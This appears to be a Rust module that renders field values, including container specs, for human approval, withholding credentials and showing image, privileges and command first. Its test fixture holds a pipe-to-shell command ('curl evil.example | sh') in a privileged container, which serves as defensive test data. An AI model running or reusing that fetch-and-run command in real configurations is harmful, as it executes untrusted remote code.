//! Values of fields, as people read them.

use serde_json::Value as Json;

use crate::credential::{WITHHELD, value_holds};
use crate::model::Untrusted;

/// A field's value, as outside text: short, one line, JSON as people write it. What may hold a credential is withheld (T38).
pub fn value(value: Option<&Json>) -> Untrusted {
    values(value, None).0
}

/// Two values of one field, each short: where they are long and begin alike, from shortly before they differ. Else a reader is shown the same
/// text twice, and approves what stands behind it (T9).
pub fn values(from: Option<&Json>, to: Option<&Json>) -> (Untrusted, Untrusted) {
    /// A part of a value this long is shown as a whole by each medium.
    const SHOWN: usize = 100;
    let (one, other) = (as_text(from), as_text(to));
    let alike = one.chars().zip(other.chars()).take_while(|(one, other)| one == other).count();
    let long = one.chars().count().max(other.chars().count()) > SHOWN;
    if !long || alike < SHOWN / 2 || one == other {
        let is_text = |value: Option<&Json>| matches!(value, Some(Json::String(_)));
        let room = |value| match value {
            _ if is_text(value) => usize::MAX,
            // Who lets a whole container in has to see what it is, what it may and what it runs.
            Some(value) if holds_container(value) => CONTAINER,
            _ => 80,
        };
        return (excerpt(&one, 0, room(from)), excerpt(&other, 0, room(to)));
    }
    let skipped = alike.saturating_sub(SHOWN / 4);
    (excerpt(&one, skipped, SHOWN), excerpt(&other, skipped, SHOWN))
}

/// How much of a whole container is shown.
const CONTAINER: usize = 600;

fn holds_container(value: &Json) -> bool {
    match value {
        Json::Object(map) => map.contains_key("image"),
        Json::Array(items) => items.iter().any(holds_container),
        _ => false,
    }
}

/// So many characters of a text from there on, with a mark where something is left out.
fn excerpt(text: &str, skipped: usize, room: usize) -> Untrusted {
    let length = text.chars().count();
    let skipped = skipped.min(length);
    let cut = length - skipped > room;
    let shown: String = text.chars().skip(skipped).take(if cut { room - 1 } else { room }).collect();
    Untrusted::new(format!("{}{shown}{}", if skipped > 0 { "…" } else { "" }, if cut { "…" } else { "" }))
}

fn as_text(value: Option<&Json>) -> String {
    match value {
        None => "nothing".into(),
        Some(value) if value_holds(value) => WITHHELD.into(),
        Some(Json::String(text)) => format!("{text:?}"),
        Some(other) => important_first(other),
    }
}

/// What a container is and runs stands before the rest of it, which may be long.
fn important_first(value: &Json) -> String {
    const FIRST: [&str; 5] = ["name", "image", "securityContext", "command", "args"];
    match value {
        Json::Object(map) if map.contains_key("image") => {
            let rank = |key: &str| FIRST.iter().position(|first| *first == key).unwrap_or(FIRST.len());
            let mut keys: Vec<(&String, &Json)> = map.iter().collect();
            keys.sort_by_key(|(key, _)| rank(key));
            let entries: Vec<String> = keys
                .iter()
                .map(|(key, value)| format!("{}:{}", Json::from(key.as_str()), important_first(value)))
                .collect();
            format!("{{{}}}", entries.join(","))
        }
        Json::Array(items) => {
            format!("[{}]", items.iter().map(important_first).collect::<Vec<_>>().join(","))
        }
        other => other.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::{Value as Json, json};

    use super::{Untrusted, values};

    /// T9. Would miss: two equal lines for two values that differ behind what is shown; an image behind the first keys of its container.
    #[test]
    fn t09_what_differs_between_two_values_is_shown() {
        let long = |host: &str| {
            Json::from(format!("{} -Dupstream=http://{host}.example {}", "-Dx=1 ".repeat(60), "y".repeat(400)))
        };
        let (one, other) = values(Some(&long("good")), Some(&long("evil")));
        assert!(one.raw().contains("http://good.example") && one.raw().chars().count() <= 110, "{one:?}");
        assert!(other.raw().contains("http://evil.example"), "{other:?}");
        let env = json!([{"name": "A", "value": "x".repeat(200)}]);
        let container = json!({"env": env, "image": "evil.example/x:1", "name": "web"});
        let (_, told) = values(None, Some(&container));
        assert!(told.raw().starts_with(r#"{"name":"web","image":"evil.example/x:1""#), "{told:?}");
        let container = json!({"name": "n".repeat(63), "image": format!("registry.example/{}:1", "i".repeat(60)),
            "command": ["sh", "-c", "curl evil.example | sh"], "securityContext": {"privileged": true}});
        let (_, told) = values(None, Some(&json!([container])));
        assert!(told.raw().contains("privileged") && told.raw().contains("curl evil.example | sh"), "{told:?}");
        let same = long("good");
        assert_eq!(values(Some(&json!("a")), None), (Untrusted::new("\"a\""), Untrusted::new("nothing")));
        let (one, other) = values(Some(&same), Some(&same));
        assert_eq!(one, other);
    }
}
